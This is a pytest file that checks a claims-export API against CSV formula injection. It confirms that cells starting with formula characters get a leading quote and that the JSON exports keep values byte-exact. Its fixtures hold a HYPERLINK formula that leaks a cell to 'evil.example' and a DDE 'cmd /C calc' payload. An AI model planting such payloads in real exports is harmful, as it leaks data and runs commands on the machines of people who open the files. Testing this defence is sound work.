"""CSV exports never hand a spreadsheet a formula; the JSON formats stay byte-exact."""

import csv
import io
import json

import pytest

from claims.exports.spreadsheet import FORMULA_STARTS, neutralised
from tests.factories import annotate, article

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Secretary of State")'


@pytest.fixture
def hostile(db, reviewer_ann):
    story = article("-10% for the Secretary\n\n@Blinken met Foreign Minister Qin Gang.", title="")
    claim = story.claims.get(text__startswith="@Blinken")
    annotate(
        claim, reviewer_ann, "Foreign Minister", correction=HYPERLINK, note="+cmd|' /C calc'!A0"
    )
    return story


def export(client, query: str) -> str:
    response = client.get(f"/api/v1/export/claims?{query}")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_a_leading_quote(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_and_numbers_are_left_alone():
    assert neutralised("Secretary of State") == "Secretary of State"
    assert neutralised("a=b") == "a=b"
    assert neutralised(-3) == -3
    assert neutralised("") == ""


def test_csv_cells_that_would_be_formulas_are_neutralised(hostile, editor_eve, api_as):
    rows = list(csv.DictReader(io.StringIO(export(api_as(editor_eve), "format=csv"))))
    by_text = {row["text"]: row for row in rows}
    headline = by_text["'-10% for the Secretary"]
    assert headline["article_title"] == "'-10% for the Secretary"
    tagged = by_text["'@Blinken met Foreign Minister Qin Gang."]
    assert tagged["corrections"] == "'" + HYPERLINK
    # Numbers stay numbers, and the JSON column still holds the exact correction.
    assert tagged["start"] == str(hostile.claims.get(order=1).start)
    (annotation,) = json.loads(tagged["annotations"])
    assert annotation["correction"] == HYPERLINK
    assert annotation["note"] == "+cmd|' /C calc'!A0"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value


def test_json_formats_carry_the_correction_byte_exact(hostile, editor_eve, api_as):
    client = api_as(editor_eve)
    from_jsonl = [json.loads(line) for line in export(client, "format=jsonl").splitlines()]
    from_json = json.loads(export(client, "format=json"))
    for records in (from_jsonl, from_json):
        (tagged,) = [r for r in records if r["annotations"]]
        assert tagged["annotations"][0]["correction"] == HYPERLINK
        assert tagged["claim"]["text"] == "@Blinken met Foreign Minister Qin Gang."
    assert json.dumps(HYPERLINK)[1:-1] in export(client, "format=jsonl")
